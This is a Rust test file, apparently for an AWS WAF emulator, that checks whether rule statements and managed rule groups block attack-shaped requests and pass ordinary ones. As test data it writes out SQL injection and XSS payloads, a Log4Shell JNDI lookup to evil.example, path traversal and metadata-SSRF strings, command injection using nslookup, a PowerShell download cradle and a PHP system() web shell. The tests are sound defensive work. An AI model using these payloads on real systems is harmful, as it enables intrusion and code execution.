fn header_order_is_the_names_as_sent_joined_by_colons() {
    let acl = compile(
        json!({"Allow": {}}),
        json!([rule("bot-order", 0, json!({"ByteMatchStatement": {"SearchString": b64("host:user-agent:accept"),
            "FieldToMatch": {"HeaderOrder": {"OversizeHandling": "CONTINUE"}},
            "TextTransformations": [{"Priority": 0, "Type": "LOWERCASE"}], "PositionalConstraint": "EXACTLY"}}),
            json!({"Block": {}}))]),
    )
    .unwrap();
    let headers = |names: &[&'static str]| -> Vec<(&'static str, &'static str)> {
        names.iter().map(|n| (*n, "x")).collect()
    };
    assert_eq!(
        decide(
            &acl,
            &request(
                "1.2.3.4",
                "GET",
                "/",
                "",
                &headers(&["Host", "User-Agent", "Accept"])
            )
        )
        .as_deref(),
        Some("bot-order")
    );
    assert_eq!(
        decide(
            &acl,
            &request(
                "1.2.3.4",
                "GET",
                "/",
                "",
                &headers(&["Host", "Accept", "User-Agent"])
            )
        ),
        None
    );
}

#[test]
fn a_uri_fragment_is_what_follows_the_hash_else_the_fallback_decides() {
    let acl = |fallback: &str| {
        compile(
            json!({"Allow": {}}),
            json!([rule("fragment", 0, json!({"ByteMatchStatement": {"SearchString": b64("admin"),
                "FieldToMatch": {"UriFragment": {"FallbackBehavior": fallback}},
                "TextTransformations": [{"Priority": 0, "Type": "NONE"}], "PositionalConstraint": "CONTAINS"}}),
                json!({"Block": {}}))]),
        )
        .unwrap()
    };
    let lenient = acl("NO_MATCH");
    assert_eq!(
        decide(
            &lenient,
            &request("1.2.3.4", "GET", "/prod/x#/admin", "", &[])
        )
        .as_deref(),
        Some("fragment")
    );
    assert_eq!(
        decide(&lenient, &request("1.2.3.4", "GET", "/prod/x#top", "", &[])),
        None
    );
    assert_eq!(
        decide(&lenient, &request("1.2.3.4", "GET", "/prod/x", "", &[])),
        None
    );
    let strict = acl("MATCH");
    assert_eq!(
        decide(&strict, &request("1.2.3.4", "GET", "/prod/x", "", &[])).as_deref(),
        Some("fragment")
    );
}

fn attack(kind: &str, field: Value, transform: &str, extra: Value) -> Value {
    let mut statement = json!({"FieldToMatch": field,
        "TextTransformations": [{"Priority": 0, "Type": transform}]});
    if let (Some(map), Some(extra)) = (statement.as_object_mut(), extra.as_object()) {
        map.extend(extra.clone());
    }
    json!({ kind: statement })
}

#[test]
fn sqli_and_xss_statements_catch_injection_and_let_ordinary_values_through() {
    let block = || json!({"Block": {}});
    let acl = compile(
        json!({"Allow": {}}),
        json!([
            rule(
                "sqli-args",
                0,
                attack(
                    "SqliMatchStatement",
                    json!({"AllQueryArguments": {}}),
                    "URL_DECODE",
                    json!({})
                ),
                block()
            ),
            rule(
                "xss-body",
                1,
                attack(
                    "XssMatchStatement",
                    json!({"Body": {}}),
                    "HTML_ENTITY_DECODE",
                    json!({})
                ),
                block()
            ),
            rule(
                "sqli-high",
                2,
                attack(
                    "SqliMatchStatement",
                    json!({"SingleHeader": {"Name": "X-Filter"}}),
                    "NONE",
                    json!({"SensitivityLevel": "HIGH"})
                ),
                block()
            ),
            rule(
                "sqli-json",
                3,
                attack(
                    "SqliMatchStatement",
                    json!({"JsonBody": {"MatchPattern": {"All": {}},
                "MatchScope": "VALUE", "InvalidFallbackBehavior": "NO_MATCH"}}),
                    "NONE",
                    json!({"SensitivityLevel": "LOW"})
                ),
                block()
            ),
        ]),
    )
    .unwrap();
    // (20 + 10 for all query arguments + 10 for URL_DECODE) + (40 + 10) + 30 + 2 × 20.
    assert_eq!(acl.capacity, 160);
    let get = |query: &'static str, filter: &'static str| {
        decide(
            &acl,
            &request("1.2.3.4", "GET", "/items", query, &[("x-filter", filter)]),
        )
    };
    for attack in [
        "id=1%27%20or%20%271%27%3D%271",
        "id=1%20UNION%20SELECT%20password%20FROM%20users",
        "id=1%20and%20sleep(5)",
        "name=admin%27--",
        "q=ok&id=1%3B%20DROP%20TABLE%20users",
    ] {
        assert_eq!(get(attack, "").as_deref(), Some("sqli-args"), "{attack}");
    }
    for ordinary in [
        "q=O%27Reilly",
        "email=john.smith%40example.com",
        "q=hello%20world&page=2",
        "range=10-20",
        "q=rock%20%27n%27%20roll",
        "lang=C%23",
        "q=1%20or%201",
    ] {
        assert_eq!(get(ordinary, "C#"), None, "{ordinary}");
    }
    // HIGH takes the short shapes LOW lets through.
    assert_eq!(get("", "1 or 1").as_deref(), Some("sqli-high"));
    assert_eq!(get("", "1 UNION").as_deref(), Some("sqli-high"));
    assert_eq!(get("", "admin' #").as_deref(), Some("sqli-high"));
    assert_eq!(get("", "issue #12"), None);

    let post = |body: &'static str| {
        decide(
            &acl,
            &with_body(request("1.2.3.4", "POST", "/items", "", &[]), body),
        )
    };
    assert_eq!(
        post("<script>alert(document.cookie)</script>").as_deref(),
        Some("xss-body")
    );
    assert_eq!(
        post("<img src=x onerror=alert(1)>").as_deref(),
        Some("xss-body")
    );
    // Entity-encoded script is decoded first.
    assert_eq!(
        post("&lt;script&gt;alert(1)&lt;/script&gt;").as_deref(),
        Some("xss-body")
    );
    assert_eq!(
        post(r#"{"comment": "<a href='javascript:alert(1)'>x</a>"}"#).as_deref(),
        Some("xss-body")
    );
    assert_eq!(
        post(r#"{"filter": "x' or '1'='1"}"#).as_deref(),
        Some("sqli-json")
    );
    for ordinary in [
        "a < b and c > d",
        "Tom &amp; Jerry",
        r#"{"name": "O'Reilly", "note": "<b>bold</b> is fine"}"#,
        "",
    ] {
        assert_eq!(post(ordinary), None, "{ordinary}");
    }
}

#[test]
fn sqli_sensitivity_is_low_or_high() {
    let e = compile(
        json!({"Allow": {}}),
        json!([rule(
            "s",
            0,
            attack(
                "SqliMatchStatement",
                json!({"UriPath": {}}),
                "NONE",
                json!({"SensitivityLevel": "MEDIUM"})
            ),
            json!({"Block": {}})
        )]),
    )
    .unwrap_err();
    assert_eq!(e.code, "ValidationException");
    assert!(e.message.contains("[LOW, HIGH]"), "{e}");
    let e = compile(
        json!({"Allow": {}}),
        json!([rule(
            "x",
            0,
            json!({"XssMatchStatement": {"FieldToMatch": {"UriPath": {}}}}),
            json!({"Block": {}})
        )]),
    )
    .unwrap_err();
    assert!(e.message.contains("textTransformations"), "{e}");
}

fn managed(name: &str, priority: u64, extra: Value) -> Value {
    let mut statement = json!({"VendorName": "AWS", "Name": name});
    if let (Some(map), Some(extra)) = (statement.as_object_mut(), extra.as_object()) {
        map.extend(extra.clone());
    }
    json!({"Name": name, "Priority": priority, "OverrideAction": {"None": {}},
           "Statement": {"ManagedRuleGroupStatement": statement},
           "VisibilityConfig": {"SampledRequestsEnabled": false, "CloudWatchMetricsEnabled": false, "MetricName": name}})
}

#[test]
fn aws_managed_rule_groups_block_what_their_rules_describe() {
    let acl = compile(
        json!({"Allow": {}}),
        json!([
            managed("AWSManagedRulesCommonRuleSet", 0, json!({"Version": "Version_1.12"})),
            managed("AWSManagedRulesSQLiRuleSet", 1, json!({"ExcludedRules": [{"Name": "SQLi_COOKIE"}]})),
            managed("AWSManagedRulesKnownBadInputsRuleSet", 2, json!({"RuleActionOverrides": [
                {"Name": "Host_localhost_HEADER", "ActionToUse": {"Count": {}}}]})),
            managed("AWSManagedRulesAdminProtectionRuleSet", 3, json!({"ScopeDownStatement": {"NotStatement": {"Statement":
                {"ByteMatchStatement": {"SearchString": b64("yes"), "FieldToMatch": {"SingleHeader": {"Name": "x-from-vpn"}},
                 "TextTransformations": [{"Priority": 0, "Type": "NONE"}], "PositionalConstraint": "EXACTLY"}}}}})),
            rule("local", 4, json!({"LabelMatchStatement": {"Scope": "LABEL",
                "Key": "awswaf:managed:aws:known-bad-inputs:Host_Localhost_Header"}}), json!({"Block": {}})),
            rule("sqli-cookie-seen", 5, json!({"LabelMatchStatement": {"Scope": "LABEL",
                "Key": "awswaf:managed:aws:sql-database:SQLi_Cookie"}}), json!({"Block": {}})),
        ]),
    )
    .unwrap();
    // The groups' declared capacities, and the scope-down statement's (a byte match).
    assert_eq!(acl.capacity, 700 + 200 + 200 + 100 + 2 + 1 + 1);
    let ua = ("user-agent", "Mozilla/5.0");
    let get =
        |path: &'static str, query: &'static str, headers: &[(&'static str, &'static str)]| {
            let mut all = headers.to_vec();
            if !headers.iter().any(|(name, _)| *name == "user-agent") {
                all.push(ua);
            }
            decide(&acl, &request("192.0.2.1", "GET", path, query, &all))
        };
    assert_eq!(get("/prod/items", "page=2&q=blue%20shirt", &[]), None);
    let long_query: &'static str = format!("q={}", "a".repeat(2_100)).leak();
    for (path, query, headers, rule) in [
        (
            "/prod/items",
            "a=1",
            vec![("user-agent", "sqlmap/1.7")],
            "UserAgent_BadBots_HEADER",
        ),
        (
            "/prod/items",
            long_query,
            vec![],
            "SizeRestrictions_QUERYSTRING",
        ),
        (
            "/prod/items",
            "url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data",
            vec![],
            "EC2MetaDataSSRF_QUERYARGUMENTS",
        ),
        (
            "/prod/..%2f..%2fetc/passwd",
            "",
            vec![],
            "GenericLFI_URIPATH",
        ),
        (
            "/prod/files",
            "name=..%2F..%2Fsecret",
            vec![],
            "GenericLFI_QUERYARGUMENTS",
        ),
        (
            "/prod/files",
            "name=server.log",
            vec![],
            "RestrictedExtensions_QUERYARGUMENTS",
        ),
        (
            "/prod/page",
            "inc=http%3A%2F%2F10.1.2.3%2Fshell",
            vec![],
            "GenericRFI_QUERYARGUMENTS",
        ),
        (
            "/prod/search",
            "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            vec![],
            "CrossSiteScripting_QUERYARGUMENTS",
        ),
        (
            "/prod/items",
            "id=1%27%20or%20%271%27%3D%271",
            vec![],
            "SQLi_QUERYARGUMENTS",
        ),
        (
            "/prod/items",
            "id=1%20or%201",
            vec![],
            "SQLiExtendedPatterns_QUERYARGUMENTS",
        ),
        (
            "/prod/items/1%27%20or%20%271%27%3D%271",
            "",
            vec![],
            "SQLi_URIPATH",
        ),
        (
            "/prod/items",
            "",
            vec![("x-api-version", "${jndi:ldap://evil.example/a}")],
            "Log4JRCE_HEADER",
        ),
        (
            "/prod/items",
            "",
            vec![("x-debug", "(java.lang.Runtime).getRuntime().exec(\"id\")")],
            "JavaDeserializationRCE_HEADER",
        ),
        (
            "/prod/WEB-INF/web.xml",
            "",
            vec![],
            "ExploitablePaths_URIPATH",
        ),
        ("/prod/admin/users", "", vec![], "AdminProtection_URIPATH"),
        // Counted by the override: the label decides, in the web ACL's next rule.
        ("/prod/items", "", vec![("host", "localhost:4566")], "local"),
        // An excluded rule counts and labels.
        (
            "/prod/items",
            "",
            vec![("cookie", "session=x' or '1'='1")],
            "sqli-cookie-seen",
        ),
    ] {
        let headers: Vec<(&'static str, &'static str)> = headers;
        assert_eq!(
            get(path, query, &headers).as_deref(),
            Some(rule),
            "{path}?{query} {headers:?}"
        );
    }
    // No User-Agent header at all.
    assert_eq!(
        decide(&acl, &request("192.0.2.1", "GET", "/prod/items", "", &[])).as_deref(),
        Some("NoUserAgent_HEADER")
    );
    assert_eq!(
        decide(
            &acl,
            &request("192.0.2.1", "PROPFIND", "/prod/items", "", &[ua])
        )
        .as_deref(),
        Some("PROPFIND_METHOD")
    );
    // Out of the admin group's scope.
    assert_eq!(get("/prod/admin/users", "", &[("x-from-vpn", "yes")]), None);
    let post = |body: &'static str| {
        decide(
            &acl,
            &with_body(request("192.0.2.1", "POST", "/prod/items", "", &[ua]), body),
        )
    };
    assert_eq!(
        post(r#"{"bio": "<img src=x onerror=alert(1)>"}"#).as_deref(),
        Some("CrossSiteScripting_BODY")
    );
    assert_eq!(post(r#"{"name": "Ann O'Neil", "note": "gift wrap"}"#), None);
    let large: &'static str = "x".repeat(9_000).leak();
    assert_eq!(post(large).as_deref(), Some("SizeRestrictions_BODY"));
}

#[test]
fn managed_rule_groups_this_server_cannot_render_are_refused() {
    let refused = |statement: Value| {
        compile(
            json!({"Allow": {}}),
            json!([{"Name": "m", "Priority": 0, "OverrideAction": {"None": {}},
                    "Statement": {"ManagedRuleGroupStatement": statement},
                    "VisibilityConfig": {"SampledRequestsEnabled": false, "CloudWatchMetricsEnabled": false, "MetricName": "m"}}]),
        )
        .unwrap_err()
    };
    let e = refused(json!({"VendorName": "AWS", "Name": "AWSManagedRulesAmazonIpReputationList"}));
    assert_eq!(e.code, "WAFInvalidParameterException");
    assert!(
        e.message
            .contains("AWSManagedRulesAmazonIpReputationList is not supported"),
        "{e}"
    );
    for statement in [
        json!({"VendorName": "AWS", "Name": "AWSManagedRulesNoSuchGroup"}),
        json!({"VendorName": "Acme", "Name": "AWSManagedRulesCommonRuleSet"}),
        json!({"VendorName": "AWS", "Name": "AWSManagedRulesCommonRuleSet", "Version": "latest"}),
    ] {
        assert_eq!(refused(statement).code, "WAFNonexistentItemException");
    }
    let e = refused(
        json!({"VendorName": "AWS", "Name": "AWSManagedRulesCommonRuleSet",
        "ManagedRuleGroupConfigs": [{"LoginPath": "/login"}]}),
    );
    assert!(e.message.contains("ManagedRuleGroupConfigs"), "{e}");
    // Only a rule's whole statement, as a rule group reference.
    let e = compile(
        json!({"Allow": {}}),
        json!([rule(
            "n",
            0,
            json!({"NotStatement": {"Statement": {"ManagedRuleGroupStatement":
            {"VendorName": "AWS", "Name": "AWSManagedRulesCommonRuleSet"}}}}),
            json!({"Block": {}})
        )]),
    )
    .unwrap_err();
    assert_eq!(e.code, "WAFInvalidParameterException");
}

#[test]
fn operating_system_and_application_groups_block_their_shapes() {
    let acl = compile(
        json!({"Allow": {}}),
        json!([
            managed("AWSManagedRulesLinuxRuleSet", 0, json!({})),
            managed("AWSManagedRulesUnixRuleSet", 1, json!({})),
            managed("AWSManagedRulesWindowsRuleSet", 2, json!({})),
            managed("AWSManagedRulesPHPRuleSet", 3, json!({})),
            managed("AWSManagedRulesWordPressRuleSet", 4, json!({})),
            rule(
                "posix-label",
                5,
                json!({"LabelMatchStatement": {"Scope": "NAMESPACE",
                "Key": "awswaf:managed:aws:posix-os:"}}),
                json!({"Count": {}})
            ),
        ]),
    )
    .unwrap();
    assert_eq!(acl.capacity, 200 + 100 + 200 + 100 + 100 + 1);
    let get =
        |path: &'static str, query: &'static str, headers: &[(&'static str, &'static str)]| {
            decide(&acl, &request("192.0.2.1", "GET", path, query, headers))
        };
    for (path, query, headers, rule) in [
        ("/prod/proc/self/environ", "", vec![], "LFI_URIPATH"),
        (
            "/prod/view",
            "file=%2Fetc%2Fpasswd",
            vec![],
            "LFI_QUERYSTRING",
        ),
        (
            "/prod/view",
            "",
            vec![("referer", "/proc/version")],
            "LFI_HEADER",
        ),
        (
            "/prod/run",
            "cmd=echo%20%24HOME",
            vec![],
            "UNIXShellCommandsVariables_QUERYARGUMENTS",
        ),
        (
            "/prod/run",
            "host=x%7C%7Cnslookup%20evil.example",
            vec![],
            "WindowsShellCommands_QUERYARGUMENTS",
        ),
        (
            "/prod/run",
            "",
            vec![("cookie", "pref=x||nslookup evil.example")],
            "WindowsShellCommands_COOKIE",
        ),
        (
            "/prod/run",
            "s=Invoke-Expression%20(x)",
            vec![],
            "PowerShellCommands_QUERYARGUMENTS",
        ),
        (
            "/prod/page",
            "q=fsockopen(%22evil%22%2C80)",
            vec![],
            "PHPHighRiskMethodsVariables_QUERYSTRING",
        ),
        (
            "/prod/page",
            "",
            vec![("x-data", "$_GET['x']")],
            "PHPHighRiskMethodsVariables_HEADER",
        ),
        (
            "/prod/wp-admin/admin-ajax.php",
            "action=do-reset-wordpress",
            vec![],
            "WordPressExploitableCommands_QUERYSTRING",
        ),
        (
            "/prod/xmlrpc.php",
            "",
            vec![],
            "WordPressExploitablePaths_URIPATH",
        ),
    ] {
        let headers: Vec<(&'static str, &'static str)> = headers;
        assert_eq!(
            get(path, query, &headers).as_deref(),
            Some(rule),
            "{path}?{query} {headers:?}"
        );
    }
    for query in [
        "q=home%20and%20path",
        "price=10%24",
        "os=windows&cmd=list",
        "name=php%20books",
    ] {
        assert_eq!(get("/prod/items", query, &[]), None, "{query}");
    }
    let post = |body: &'static str| {
        decide(
            &acl,
            &with_body(request("192.0.2.1", "POST", "/prod/run", "", &[]), body),
        )
    };
    assert_eq!(
        post("script=; cat /tmp/x").as_deref(),
        Some("UNIXShellCommandsVariables_BODY")
    );
    assert_eq!(
        post("x=IEX (New-Object Net.WebClient).DownloadString('http://e/a')").as_deref(),
        Some("PowerShellCommands_BODY")
    );
    assert_eq!(
        post("<?php system($_GET['c']); ?>").as_deref(),
        Some("PHPHighRiskMethodsVariables_BODY")
    );
    assert_eq!(post(r#"{"note": "Windows and Linux are both fine"}"#), None);
}

#[test]
fn non_blocking_actions_insert_request_headers() {
    let insert = |action: &str, headers: Value| json!({action: {"CustomRequestHandling": {"InsertHeaders": headers}}});
    let acl = compile(
        insert("Allow", json!([{"Name": "verdict", "Value": "default"}])),
        json!([
            rule("flag-curl", 0, byte_match("curl", json!({"SingleHeader": {"Name": "user-agent"}}), "STARTS_WITH"),
                insert("Count", json!([{"Name": "tool", "Value": "curl"}, {"Name": "verdict", "Value": "counted"}]))),
            rule("allow-api", 1, byte_match("/prod/api", json!({"UriPath": {}}), "STARTS_WITH"),
                insert("Allow", json!([{"Name": "verdict", "Value": "api"}]))),
            rule("block-admin", 2, byte_match("/prod/admin", json!({"UriPath": {}}), "STARTS_WITH"), json!({"Block": {}})),
        ]),
    )
    .unwrap();
    let mut counter = |_: RateProbe<'_>| false;
    let headers = |verdict: Verdict<'_>| match verdict {
        Verdict::Allow(headers) => headers
            .into_iter()
            .map(|(n, v)| format!("{n}={v}"))
            .collect::<Vec<_>>(),
        Verdict::Block(..) => vec!["blocked".to_owned()],
    };
    let curl = [("user-agent", "curl/8.5.0")];
    // Count adds and goes on; the terminating Allow's header of the same name wins.
    assert_eq!(
        headers(acl.evaluate(
            &request("1.1.1.1", "GET", "/prod/api/x", "", &curl),
            &mut counter
        )),
        ["x-amzn-waf-tool=curl", "x-amzn-waf-verdict=api"]
    );
    // The default action's headers, after the counted ones.
    assert_eq!(
        headers(acl.evaluate(
            &request("1.1.1.1", "GET", "/prod/other", "", &curl),
            &mut counter
        )),
        ["x-amzn-waf-tool=curl", "x-amzn-waf-verdict=default"]
    );
    assert_eq!(
        headers(acl.evaluate(
            &request("1.1.1.1", "GET", "/prod/other", "", &[]),
            &mut counter
        )),
        ["x-amzn-waf-verdict=default"]
    );
    // A block inserts nothing.
    assert_eq!(
        headers(acl.evaluate(
            &request("1.1.1.1", "GET", "/prod/admin", "", &curl),
            &mut counter
        )),
        ["blocked"]
    );

    // Refused: a duplicate name, a bad name or value, none at all, and Block with headers.
    for (action, field) in [
        (
            insert(
                "Allow",
                json!([{"Name": "a", "Value": "1"}, {"Name": "A", "Value": "2"}]),
            ),
            "A",
        ),
        (
            insert("Allow", json!([{"Name": "a b", "Value": "1"}])),
            "a b",
        ),
        (insert("Count", json!([{"Name": "a", "Value": ""}])), ""),
        (insert("Allow", json!([])), "InsertHeaders"),
        (
            json!({"Block": {"CustomRequestHandling": {"InsertHeaders": [{"Name": "a", "Value": "1"}]}}}),
            "CustomRequestHandling",
        ),
    ] {
        let rules = json!([rule(
            "r",
            0,
            byte_match("x", json!({"UriPath": {}}), "CONTAINS"),
            action.clone()
        )]);
        let error = compile(json!({"Allow": {}}), rules).unwrap_err();
        assert!(format!("{error:?}").contains(field), "{action}: {error:?}");
    }
}
